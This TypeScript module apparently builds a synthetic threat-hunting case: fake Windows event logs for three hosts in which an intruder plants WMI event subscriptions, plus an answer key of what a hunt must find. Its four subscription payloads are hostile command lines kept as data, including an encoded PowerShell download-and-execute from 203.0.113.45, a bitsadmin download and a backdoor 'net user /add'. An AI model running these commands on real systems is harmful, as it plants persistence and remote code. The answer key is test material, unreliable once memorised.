import { writeZip } from '../archives/index.ts';
import { security, sysmon, wmi } from '../events/index.ts';
import { seconds } from '../evtx/filetime.ts';
import type { LoggedEvent } from '../shapes/written-event.ts';
import { account, HostDay } from './ordinary-day.ts';

/** One planted subscription: a filter on logon sessions and a command line. */
export interface SeedTriad {
  readonly filter: string;
  readonly consumer: string;
  readonly query: string;
  readonly payload: string;
}

const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');

/** Four triads, one payload each (SETTLED A34). */
export const SEED_TRIADS: readonly [SeedTriad, SeedTriad, SeedTriad, SeedTriad] = [
  {
    filter: 'LogonTelemetryFilter',
    consumer: 'LogonTelemetry',
    query:
      "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2",
    payload: `powershell.exe -NoP -NonI -W Hidden -EncodedCommand ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/t.ps1')")}`,
  },
  {
    filter: 'TransferHealthFilter',
    consumer: 'TransferHealth',
    query:
      "SELECT * FROM __InstanceCreationEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 10",
    payload:
      'cmd.exe /c bitsadmin /transfer health /download /priority foreground http://203.0.113.45/h.bin C:\\ProgramData\\h.bin',
  },
  {
    filter: 'AccountSyncFilter',
    consumer: 'AccountSync',
    query:
      "SELECT * FROM __InstanceCreationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 11",
    payload: 'cmd.exe /c net user svc_sync Autumn-4711 /add',
  },
  {
    filter: 'SpoolWatchFilter',
    consumer: 'SpoolWatch',
    query:
      "SELECT * FROM __InstanceCreationEvent WITHIN 20 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 7",
    payload: 'C:\\Windows\\Temp\\spoolwatch.exe /q',
  },
];

const INTRUDER = account('alice', 1105);
const INTRUDER_ADDRESS = '10.20.4.17';

/** What a hunt must find in the seed case. */
export interface SeedTruth extends SeedTriad {
  readonly computer: string;
  readonly seenIn: 'sysmon' | '5861';
  /** `created` where the log proves it, `registered` where a 5861 may be a repeat (L1). */
  readonly step: 'created' | 'registered';
  readonly creator: string;
  readonly creatorSid: string;
  readonly address?: string;
}

export interface SeedCase {
  /** Path below the case's folder, and bytes. */
  readonly files: readonly (readonly [string, Uint8Array])[];
  readonly truth: readonly SeedTruth[];
  /** The child process of the one subscription that fired. */
  readonly fired: {
    readonly computer: string;
    readonly pid: number;
    readonly image: string;
    readonly commandLine: string;
  };
}

const LOG_FOLDER = 'C/Windows/System32/winevt/Logs';
const FS = { computer: 'FS-01.corp.example.com', address: '10.20.1.21' };
const APP = { computer: 'APP-02.corp.example.com', address: '10.20.1.22' };
const WS = { computer: 'WS-17.corp.example.com', address: '10.20.4.71' };
const FIRED_PID = 7316;
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const WMIPRVSE = 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe';

/** A remote logon of the intruder: the two connections of a WMI call, and their privileges before them. */
function intruderLogon(day: HostDay, clock: string, logonId: bigint, port: number): void {
  const { computer } = day.host;
  const time = day.at(clock);
  for (const [i, impersonation] of ['%%1832', '%%1833'].entries()) {
    const at = { computer, time: time + seconds(0.12 * i) };
    const id = logonId + BigInt(0x1f * i);
    day.add(
      'security',
      security.specialLogon(INTRUDER, id, at),
      security.logon(
        {
          account: INTRUDER,
          logonId: id,
          address: INTRUDER_ADDRESS,
          port: port + i,
          workstation: 'WS-07',
          impersonation,
        },
        { ...at, time: at.time + 50n },
      ),
      security.logoff(INTRUDER, id, 3, { computer, time: time + seconds(62 + i) }),
    );
  }
}

/** The file server: the triads as Sysmon saw them, written by remote WMI; the first one fires. */
function fileServer(): HostDay {
  const day = new HostDay({ ...FS, firstIds: { security: 418800n, sysmon: 90211n, system: 20144n, wmi: 1n } }, 11);
  day.logons(900, 0, 24);
  day.services(90, 0, 24);
  day.processes(820, 0, 24);
  // A WMI-Activity log of a build that writes 5857 and 5858 only (DOMAIN 2.1).
  day.wmiNoise(70, 0, 24);
  const { computer } = FS;
  intruderLogon(day, '14:32:05.2210457', 0x8c41d2n, 50112);
  for (const [i, triad] of SEED_TRIADS.entries()) {
    const start = day.at('14:32:08.4419012') + seconds(5 * i);
    const user = 'CORP\\alice';
    const at = (delay: number) => ({ computer, time: start + seconds(delay) });
    day.add(
      'sysmon',
      sysmon.filter({ user, name: triad.filter, query: triad.query }, at(0)),
      sysmon.consumer({ user, name: triad.consumer, destination: triad.payload }, at(0.4)),
      sysmon.binding({ user, filter: triad.filter, consumer: triad.consumer }, at(0.9)),
    );
  }
  firing(day);
  return day;
}

/** Someone signs in; the first consumer's command runs below WmiPrvSE as SYSTEM. */
function firing(day: HostDay): void {
  const { computer } = FS;
  const time = day.at('14:36:24.0071330');
  const at = (delay: number) => ({ computer, time: time + seconds(delay) });
  const host = 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding';
  const svchost = 'C:\\Windows\\System32\\svchost.exe';
  const { payload } = SEED_TRIADS[0];
  const user = account('erin', 1109);
  const parent = { parentPid: 812, parentImage: svchost, parentCommandLine: `${svchost} -k DcomLaunch -p` };
  day.add(
    'security',
    security.logon(
      {
        account: user,
        logonId: 0x91aa07n,
        type: 2,
        logonProcess: 'User32 ',
        authentication: 'Negotiate',
        address: '127.0.0.1',
        port: 0,
        workstation: 'FS-01',
      },
      at(0),
    ),
    security.processCreation(
      {
        pid: BigInt(FIRED_PID),
        image: POWERSHELL,
        commandLine: payload,
        creatorPid: 6020n,
        creatorImage: WMIPRVSE,
        subject: security.subject(security.machineAccount(computer), 0x3e7n),
      },
      at(9.002),
    ),
  );
  day.add(
    'sysmon',
    sysmon.process({ pid: 6020, image: WMIPRVSE, commandLine: host, ...parent }, at(8.1)),
    sysmon.process(
      {
        pid: FIRED_PID,
        image: POWERSHELL,
        commandLine: payload,
        parentPid: 6020,
        parentImage: WMIPRVSE,
        parentCommandLine: host,
      },
      at(9),
    ),
    sysmon.event(
      3,
      {
        ProcessGuid: sysmon.processGuid(FIRED_PID, time + seconds(9)),
        ProcessId: FIRED_PID,
        Image: POWERSHELL,
        User: 'NT AUTHORITY\\SYSTEM',
        Protocol: 'tcp',
        Initiated: true,
        SourceIp: FS.address,
        SourcePort: 51877,
        DestinationIp: '203.0.113.45',
        DestinationPort: 80,
        DestinationPortName: 'http',
      },
      at(10.2),
    ),
  );
  day.add(
    'wmi',
    wmi.providerStarted('CommandLineEventConsumer', '%systemroot%\\system32\\wbem\\wbemcons.dll', 6020, at(8.6)),
  );
}

/** 5861 for each triad, some seconds apart. */
function bindings(day: HostDay, clock: string): void {
  for (const [i, triad] of SEED_TRIADS.entries()) {
    day.add(
      'wmi',
      wmi.binding(
        { name: triad.filter, query: triad.query, eventNamespace: 'root\\cimv2', creatorSid: INTRUDER.sid },
        {
          class: 'CommandLineEventConsumer',
          name: triad.consumer,
          properties: { CommandLineTemplate: triad.payload },
          creatorSid: INTRUDER.sid,
        },
        { computer: day.host.computer, time: day.at(clock) + seconds(1.3 * i) },
      ),
    );
  }
}

/** The application server: no Sysmon; a boot in the morning lists what was stored, so the later 5861 are new. */
function applicationServer(): HostDay {
  const day = new HostDay({ ...APP, firstIds: { security: 77310n, system: 9120n, application: 5208n, wmi: 311n } }, 23);
  day.boot('05:58:14.3300000');
  day.logons(620, 6, 24);
  day.services(70, 6, 24);
  day.wmiNoise(110, 6, 24);
  intruderLogon(day, '15:10:31.0150991', 0x5d7710n, 50340);
  bindings(day, '15:10:32.8840127');
  return day;
}

/** The workstation: neither boot nor SCM's 5861 in its logs, so a 5861 may be a repeat. */
function workstation(): HostDay {
  const day = new HostDay({ ...WS, firstIds: { security: 30117n, system: 4402n, wmi: 902n } }, 37);
  day.logons(320, 6, 20);
  day.services(40, 6, 20);
  day.wmiNoise(45, 6, 20);
  bindings(day, '15:41:07.6020044');
  return day;
}

/** The events of the seed case by host, in the order of time, with the record ids of their logs. */
export function seedEvents(): { readonly computer: string; readonly events: readonly LoggedEvent[] }[] {
  return [fileServer(), applicationServer(), workstation()].map((day) => ({
    computer: day.host.computer,
    events: day
      .logs()
      .flatMap(([, events]) => events)
      .sort((a, b) => (a.model.time < b.model.time ? -1 : a.model.time > b.model.time ? 1 : 0)),
  }));
}

/** The seed case of the hunt, in memory: a zip of one host and the folders of two others. Always the same bytes. */
export function seedCase(): SeedCase {
  const inFolder = ([name, bytes]: [string, Uint8Array]): [string, Uint8Array] => [`${LOG_FOLDER}/${name}`, bytes];
  const loose = (folder: string, day: HostDay): [string, Uint8Array][] =>
    day.files().map((file) => {
      const [path, bytes] = inFolder(file);
      return [`${folder}/${path}`, bytes];
    });
  const server = fileServer();
  const found = (
    day: { readonly computer: string },
    seenIn: SeedTruth['seenIn'],
    step: SeedTruth['step'],
    address?: string,
  ): SeedTruth[] =>
    SEED_TRIADS.map((triad) => ({
      ...triad,
      computer: day.computer,
      seenIn,
      step,
      creator: 'CORP\\alice',
      creatorSid: INTRUDER.sid,
      ...(address === undefined ? {} : { address }),
    }));
  return {
    files: [
      [
        'FS-01.zip',
        writeZip(
          server
            .files({ zeroSlots: 1 })
            .map(inFolder)
            .map(([name, bytes]) => ({ name, bytes })),
        ),
      ],
      ...loose('APP-02', applicationServer()),
      ...loose('WS-17', workstation()),
    ],
    truth: [
      ...found(FS, 'sysmon', 'created', INTRUDER_ADDRESS),
      ...found(APP, '5861', 'created', INTRUDER_ADDRESS),
      ...found(WS, '5861', 'registered'),
    ],
    fired: { computer: FS.computer, pid: FIRED_PID, image: POWERSHELL, commandLine: SEED_TRIADS[0].payload },
  };
}
